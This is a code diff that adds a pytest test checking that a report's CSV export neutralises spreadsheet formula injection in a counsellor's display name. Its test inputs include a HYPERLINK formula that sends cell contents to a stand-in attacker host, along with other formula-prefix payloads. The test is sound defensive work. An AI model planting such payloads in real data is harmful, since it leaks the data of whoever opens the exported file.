@@ -224,3 +224,18 @@ def test_the_csv_hides_the_same_cells(data, browser_of):
 def test_the_csv_headers_follow_the_language(data, browser_of):
     response = browser_of("greta").get(URL.format(lang="fr") + "csv/")
     assert response["Content-Disposition"].startswith('attachment; filename="report-agence')
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("https://evil.example/?"&A1,"Erin")', "+1+1", "-1+1", "@SUM(A1)", "\tErin"]
+)
+def test_no_cell_of_the_csv_is_a_formula(data, crew, browser_of, name):
+    """A counsellor's name reaches the CSV: typed as a formula, the spreadsheet must
+    show it as text (a quote first), not run it."""
+    crew.erin.profile.display_name = name
+    crew.erin.profile.save()
+    raw = browser_of("greta").get(URL.format(lang="en") + "csv/").content
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+    groups = {r[1] for r in rows[1:] if r[0] == "Satisfaction by counsellor"}
+    assert "'" + name in groups
+    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t")]
